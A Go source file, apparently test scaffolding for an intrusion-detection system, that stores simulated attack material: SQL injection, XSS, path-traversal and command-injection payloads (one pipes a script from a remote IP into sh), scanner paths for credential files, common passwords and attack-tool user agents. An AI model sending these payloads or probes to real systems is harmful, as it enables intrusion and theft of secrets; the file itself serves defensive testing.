package scenario

// Attack material: what scanners request, what injection attempts carry and
// what attacking tools call themselves.

// payload is one injection attempt.
type payload struct {
	subtype string // as alert.Evidence.Subtype: "sqli", "xss", "path_traversal", "cmdi"
	s       string
}

// payloads are common probes of sqlmap, the OWASP testing guide and
// PayloadsAllTheThings, as a client sends them before URL encoding.
var payloads = []payload{
	{"sqli", "' OR '1'='1"},
	{"sqli", "' OR 1=1-- -"},
	{"sqli", "1' AND 1=1 AND 'a'='a"},
	{"sqli", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x7176787671,0x4b6e5a,0x71766a7871)-- -"},
	{"sqli", "1' AND SLEEP(5)-- -"},
	{"sqli", "1;WAITFOR DELAY '0:0:5'--"},
	{"sqli", "admin'--"},
	{"sqli", "1' ORDER BY 10-- -"},
	{"sqli", "') OR ('a'='a"},
	{"sqli", "1 AND (SELECT 4523 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"},
	{"sqli", "1' UNION SELECT username,password FROM users--"},
	{"xss", "<script>alert(1)</script>"},
	{"xss", "\"><img src=x onerror=alert(document.domain)>"},
	{"xss", "<svg/onload=alert(1)>"},
	{"xss", "javascript:alert(document.cookie)"},
	{"xss", "'\"><iframe src=javascript:alert(1)>"},
	{"xss", "<body onload=alert('XSS')>"},
	{"path_traversal", "../../../../etc/passwd"},
	{"path_traversal", "../../../../../../windows/win.ini"},
	{"path_traversal", "....//....//....//etc/passwd"},
	{"path_traversal", "..\\..\\..\\..\\boot.ini"},
	{"path_traversal", "/etc/shadow"},
	{"cmdi", "; cat /etc/passwd"},
	{"cmdi", "| id"},
	{"cmdi", "$(whoami)"},
	{"cmdi", "`uname -a`"},
	{"cmdi", "&& curl http://203.0.113.66/x.sh | sh"},
	{"cmdi", "; ping -c 3 127.0.0.1"},
	{"cmdi", "|| nslookup x.attacker.example"},
}

// scanPaths are what vulnerability scanners and content-discovery tools
// request first.
var scanPaths = []string{
	"/.env", "/.env.local", "/.env.production", "/.git/HEAD", "/.git/config",
	"/.git/index", "/.svn/entries", "/.hg/hgrc", "/.DS_Store", "/.htaccess",
	"/.htpasswd", "/.aws/credentials", "/.ssh/id_rsa", "/.npmrc", "/.dockerenv",
	"/wp-admin/", "/wp-login.php", "/wp-config.php.bak", "/xmlrpc.php",
	"/wp-content/debug.log", "/phpmyadmin/", "/pma/", "/adminer.php",
	"/phpinfo.php", "/info.php", "/server-status", "/server-info",
	"/actuator", "/actuator/env", "/actuator/heapdump", "/actuator/health",
	"/actuator/mappings", "/jolokia/list", "/console", "/manager/html",
	"/solr/admin/", "/_cat/indices", "/_all_dbs", "/debug/pprof/",
	"/metrics", "/swagger.json", "/swagger-ui.html", "/v2/api-docs",
	"/v3/api-docs", "/openapi.json", "/api-docs", "/graphql", "/graphiql",
	"/config.json", "/config.yml", "/settings.py", "/web.config",
	"/crossdomain.xml", "/backup.zip", "/backup.tar.gz", "/db.sql",
	"/dump.sql", "/database.sqlite", "/cgi-bin/test-cgi", "/cgi-bin/luci",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/owa/auth/logon.aspx", "/remote/login", "/global-protect/login.esp",
	"/HNAP1/", "/boaform/admin/formLogin", "/telescope/requests",
	"/_ignition/execute-solution", "/Autodiscover/Autodiscover.xml",
	"/admin", "/admin/", "/administrator/", "/login.jsp", "/user/login",
	"/portal/", "/owncloud/status.php", "/storage/logs/laravel.log",
	"/elmah.axd", "/trace.axd", "/.well-known/security.txt", "/sitemap.xml",
}

// scanWords and scanExts make the content-discovery part of a scan.
var (
	scanWords = []string{
		"admin", "backup", "backups", "old", "test", "dev", "staging", "tmp",
		"temp", "private", "secret", "internal", "upload", "uploads", "files",
		"logs", "log", "db", "data", "export", "import", "config", "conf",
		"debug", "api-old", "beta", "archive", "static", "assets", "cms",
	}
	scanExts = []string{"", "/", ".php", ".bak", ".zip", ".sql", ".old", ".txt", ".json", ".tar.gz"}
)

// newEndpointPaths are the undocumented endpoints new_endpoint plants,
// after the service's base path.
var newEndpointPaths = []string{
	"/internal/export", "/admin/users/export", "/debug/vars", "/internal/metrics",
	"/reports/export", "/admin/config", "/internal/jobs/status", "/export/all",
	"/internal/cache/dump", "/admin/audit-log",
}

var commonPasswords = []string{
	"123456", "password", "123456789", "qwerty", "password1", "12345678",
	"111111", "letmein", "iloveyou", "admin", "welcome", "Summer2025!",
	"monkey", "dragon", "football", "abc123", "P@ssw0rd", "Passw0rd!",
}

var (
	scannerAgents = []string{
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei",
		"gobuster/3.6",
		"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
		"Fuzz Faster U Fool v2.1.0",
	}
	injectionAgents = []string{
		"sqlmap/1.8.2#stable (https://sqlmap.org)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
		"python-requests/2.31.0",
	}
	bruteAgents = []string{"Mozilla/4.0 (Hydra)", "python-requests/2.31.0", "curl/8.5.0"}
)
